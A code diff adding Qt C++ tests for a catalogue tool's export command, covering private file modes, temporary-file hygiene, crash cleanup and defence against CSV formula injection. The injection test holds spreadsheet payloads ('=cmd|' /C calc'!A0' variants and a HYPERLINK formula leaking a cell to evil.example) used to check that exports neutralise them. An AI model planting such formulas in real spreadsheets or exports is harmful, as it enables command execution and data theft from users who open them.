@@ -1,10 +1,18 @@
+#include "support/TempFolderWatch.h"
 #include "support/TestSupport.h"
 
 #include <QDir>
+#include <QElapsedTimer>
 #include <QFile>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QProcess>
+#include <QSqlQuery>
 #include <QTemporaryDir>
 #include <QTest>
+
+#include <csignal>
+#include <sys/stat.h>
 
 using namespace govcat;
 
@@ -19,6 +27,10 @@ private Q_SLOTS:
     void exportsEachFormat();
     void filters();
     void exitCodes();
+    void exportsArePrivate();
+    void xlsxExportWritesNothingToTheTemporaryFolder();
+    void hostileNamesRoundTrip();
+    void killedExportIsCleanedUp();
 
 private:
     struct Run
@@ -27,8 +39,14 @@ private:
         QString out;
         QString err;
     };
-    Run govcat(const QStringList& args, const QByteArray& passphrase = test::kPassphrase);
+    Run govcat(const QStringList& args, const QByteArray& passphrase = test::kPassphrase,
+               const QList<std::pair<QString, QString>>& environment = {});
     QStringList leftovers() const;
+    static int modeOf(const QString& path)
+    {
+        struct stat st = {};
+        return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
+    }
 
     QString m_binary;
     QTemporaryDir m_dir;
@@ -46,11 +64,15 @@ void TestExportCli::initTestCase()
     QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
 }
 
-TestExportCli::Run TestExportCli::govcat(const QStringList& args, const QByteArray& passphrase)
+TestExportCli::Run TestExportCli::govcat(const QStringList& args, const QByteArray& passphrase,
+                                         const QList<std::pair<QString, QString>>& environment)
 {
     QProcess p;
     QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
     env.insert(QStringLiteral("GOVCAT_PASSPHRASE"), QString::fromUtf8(passphrase));
+    for (const auto& [name, value] : environment) {
+        env.insert(name, value);
+    }
     p.setProcessEnvironment(env);
     p.start(m_binary, args);
     p.closeWriteChannel();
@@ -142,6 +164,195 @@ void TestExportCli::exitCodes()
                 QStringLiteral("--format"), QStringLiteral("csv"), QStringLiteral("--out"), out});
     QCOMPARE(notDb.exitCode, 3);
     QVERIFY(leftovers().isEmpty());
+}
+
+// Exports are created 0600 under a umask of 022, also where an older file of that name was 0644.
+void TestExportCli::exportsArePrivate()
+{
+    const mode_t mask = ::umask(022);
+    for (const QString& format : {QStringLiteral("xlsx"), QStringLiteral("csv"), QStringLiteral("json")}) {
+        const QString out = m_dir.filePath(QStringLiteral("private.") + format);
+        const Run r =
+            govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
+                    format, QStringLiteral("--out"), out, QStringLiteral("--quiet")});
+        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+        QCOMPARE(modeOf(out), 0600);
+        QVERIFY(::chmod(QFile::encodeName(out).constData(), 0644) == 0);
+        const Run again =
+            govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
+                    format, QStringLiteral("--out"), out, QStringLiteral("--quiet")});
+        QVERIFY2(again.exitCode == 0, qPrintable(again.err));
+        QCOMPARE(modeOf(out), 0600); // replaced by a new file
+    }
+    ::umask(mask);
+    QVERIFY(leftovers().isEmpty());
+}
+
+// An xlsx export creates nothing in TMPDIR, TMP or TEMP (libxlsxwriter's temporary files, its
+// rows in plain text, go to the export's folder and are unlinked at once).
+void TestExportCli::xlsxExportWritesNothingToTheTemporaryFolder()
+{
+    QTemporaryDir tmp;
+    test::TempFolderWatch watch(tmp.path());
+    test::TempFolderWatch beside(m_dir.path());
+    QVERIFY(watch.isValid() && beside.isValid());
+    const Run r =
+        govcat({QStringLiteral("export"), QStringLiteral("--db"), m_db, QStringLiteral("--format"),
+                QStringLiteral("xlsx"), QStringLiteral("--out"), m_dir.filePath(QStringLiteral("t.xlsx"))},
+               test::kPassphrase,
+               {{QStringLiteral("TMPDIR"), tmp.path()},
+                {QStringLiteral("TMP"), tmp.path()},
+                {QStringLiteral("TEMP"), tmp.path()}});
+    QVERIFY2(r.exitCode == 0, qPrintable(r.err));
+    QCOMPARE(watch.created(), QStringList());
+    QVERIFY(QDir(tmp.path()).isEmpty(QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot));
+    QVERIFY(!beside.created().filter(QStringLiteral("tmp.")).isEmpty()); // the watch works
+    QVERIFY(leftovers().isEmpty());
+}
+
+// Names a department can import that would run in a spreadsheet (OWASP CSV injection): the CSV
+// export writes them with a quote in front, and `govcat import` reads the file back unchanged.
+void TestExportCli::hostileNamesRoundTrip()
+{
+    const QString db = m_dir.filePath(QStringLiteral("hostile.govcat"));
+    QVERIFY(QFile::copy(m_db, db) && QFile::copy(m_db + QStringLiteral(".key"), db + QStringLiteral(".key")));
+    const QStringList names = {QStringLiteral("=cmd|' /C calc'!A0"),
+                               QStringLiteral("+1+cmd|' /C calc'!A0"),
+                               QStringLiteral("-2+3+cmd|' /C calc'!A0"),
+                               QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+                               QStringLiteral("'=已带引号"),
+                               QStringLiteral("-5")};
+    const QString resourceName = QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")");
+    QString uscc;
+    {
+        auto database = db::Database::open(db, test::kPassphrase, db::OpenMode::ReadWrite);
+        QVERIFY(database);
+        QSqlQuery q(database.value()->connection());
+        QVERIFY(q.exec(QStringLiteral(
+                    "SELECT r.id, d.uscc FROM info_resource r JOIN department d ON d.id = "
+                    "r.owner_dept_id WHERE r.is_deleted = 0 AND (SELECT count(*) FROM info_item "
+                    "i WHERE i.resource_id = r.id AND i.is_deleted = 0) >= 6 ORDER BY r.id "
+                    "LIMIT 1")) &&
+                q.next());
+        const QString id = q.value(0).toString();
+        uscc = q.value(1).toString();
+        q.prepare(QStringLiteral("UPDATE info_resource SET name = ? WHERE id = ?"));
+        q.addBindValue(resourceName);
+        q.addBindValue(id);
+        QVERIFY(q.exec());
+        QVERIFY(q.exec(QStringLiteral("SELECT id FROM info_item WHERE resource_id = '%1' AND is_deleted = 0 "
+                                      "ORDER BY seq LIMIT 6")
+                           .arg(id)));
+        QStringList items;
+        while (q.next()) {
+            items << q.value(0).toString();
+        }
+        QCOMPARE(items.size(), names.size());
+        for (qsizetype i = 0; i < items.size(); ++i) {
+            q.prepare(QStringLiteral("UPDATE info_item SET name = ? WHERE id = ?"));
+            q.addBindValue(names.at(i));
+            q.addBindValue(items.at(i));
+            QVERIFY(q.exec());
+        }
+    }
+    const QString csv = m_dir.filePath(QStringLiteral("hostile.csv"));
+    const Run exported =
+        govcat({QStringLiteral("export"), QStringLiteral("--db"), db, QStringLiteral("--format"),
+                QStringLiteral("csv"), QStringLiteral("--out"), csv, QStringLiteral("--quiet")});
+    QVERIFY2(exported.exitCode == 0, qPrintable(exported.err));
+    QFile f(csv);
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(f.readAll());
+    QVERIFY(text.contains(QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/")));
+    QVERIFY(!text.contains(QStringLiteral(",\"=HYPERLINK(")));
+    QVERIFY(text.contains(QStringLiteral(",'=cmd|' /C calc'!A0,")));
+    QVERIFY(!text.contains(QStringLiteral(",=cmd|")));
+    QVERIFY(text.contains(QStringLiteral(",'+1+cmd|")) && text.contains(QStringLiteral(",'-2+3+cmd|")) &&
+            text.contains(QStringLiteral(",'@SUM(")) && text.contains(QStringLiteral(",''=已带引号,")) &&
+            text.contains(QStringLiteral(",-5,")));
+
+    const Run profile =
+        govcat({QStringLiteral("profile"), QStringLiteral("--db"), db, QStringLiteral("--name"),
+                QStringLiteral("测试员"), QStringLiteral("--department"), uscc, QStringLiteral("--role"),
+                QStringLiteral("审核员")});
+    QVERIFY2(profile.exitCode == 0, qPrintable(profile.err));
+    const Run dry = govcat({QStringLiteral("import"), QStringLiteral("--db"), db, csv,
+                            QStringLiteral("--dry-run"), QStringLiteral("--summary-json")});
+    QVERIFY2(dry.exitCode == 0, qPrintable(dry.out + dry.err));
+    const QJsonObject summary =
+        QJsonDocument::fromJson(dry.out.trimmed().split(QLatin1Char('\n')).constLast().toUtf8()).object();
+    QCOMPARE(summary.value(QStringLiteral("unchanged")).toInt(), 120);
+    QCOMPARE(summary.value(QStringLiteral("changed")).toInt(), 0);
+    QCOMPARE(summary.value(QStringLiteral("new")).toInt(), 0);
+}
+
+// kill -9 in the middle of a CSV export leaves its part: hidden, named as govcat's, 0600, in the
+// export's folder. The next export to that folder removes it. SIGTERM cancels and leaves nothing.
+void TestExportCli::killedExportIsCleanedUp()
+{
+    QTemporaryDir dir;
+    const QString db = dir.filePath(QStringLiteral("big.govcat"));
+    const Run demo = govcat({QStringLiteral("demo"), QStringLiteral("--db"), db,
+                             QStringLiteral("--resources"), QStringLiteral("3000"), QStringLiteral("--kdf"),
+                             QStringLiteral("interactive"), QStringLiteral("--quiet")});
+    QVERIFY2(demo.exitCode == 0, qPrintable(demo.err));
+    const QString outFolder = dir.filePath(QStringLiteral("out"));
+    QVERIFY(QDir().mkpath(outFolder));
+    const QString out = QDir(outFolder).filePath(QStringLiteral("目录.csv"));
+    const auto parts = [&] {
+        return QDir(outFolder).entryList({QStringLiteral(".govcat-*.part")}, QDir::Files | QDir::Hidden);
+    };
+    const auto startExport = [&](QProcess& p) {
+        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
+        env.insert(QStringLiteral("GOVCAT_PASSPHRASE"), QString::fromUtf8(test::kPassphrase));
+        p.setProcessEnvironment(env);
+        p.start(m_binary, {QStringLiteral("export"), QStringLiteral("--db"), db, QStringLiteral("--format"),
+                           QStringLiteral("csv"), QStringLiteral("--out"), out});
+        p.closeWriteChannel();
+        if (!p.waitForStarted()) {
+            return false;
+        }
+        // The first progress line comes after half a second of writing (of about 2 s here).
+        QElapsedTimer waited;
+        waited.start();
+        while (p.state() == QProcess::Running && !p.readAllStandardError().contains("/3000") &&
+               waited.elapsed() < 120000) {
+            p.waitForReadyRead(50);
+        }
+        return p.state() == QProcess::Running;
+    };
+
+    const mode_t mask = ::umask(022);
+    QProcess killed;
+    QVERIFY2(startExport(killed), "the export ended before it could be killed");
+    ::kill(pid_t(killed.processId()), SIGKILL);
+    killed.waitForFinished();
+    ::umask(mask);
+    QCOMPARE(killed.exitStatus(), QProcess::CrashExit);
+    QVERIFY(!QFile::exists(out));
+    const QStringList left = parts();
+    QCOMPARE(left.size(), 1);
+    QVERIFY2(left.first().startsWith(QStringLiteral(".govcat-目录.csv.")), qPrintable(left.first()));
+    const QString partPath = QDir(outFolder).filePath(left.first());
+    QCOMPARE(modeOf(partPath), 0600);
+    QVERIFY(QFileInfo(partPath).size() > 0); // what was written so far, in plain text
+
+    QProcess terminated;
+    QVERIFY2(startExport(terminated), "the export ended before it could be stopped");
+    QVERIFY(parts().size() == 1 && !parts().contains(left.first())); // its own part; the stale one went
+    ::kill(pid_t(terminated.processId()), SIGTERM);
+    terminated.waitForFinished();
+    QCOMPARE(terminated.exitStatus(), QProcess::NormalExit);
+    QVERIFY(terminated.exitCode() != 0);
+    QCOMPARE(parts(), QStringList());
+    QVERIFY(!QFile::exists(out));
+
+    QProcess again;
+    QVERIFY(startExport(again) || again.exitCode() == 0);
+    QVERIFY(again.waitForFinished(300000));
+    QCOMPARE(again.exitCode(), 0);
+    QCOMPARE(parts(), QStringList());
+    QCOMPARE(modeOf(out), 0600);
 }
 
 QTEST_GUILESS_MAIN(TestExportCli)
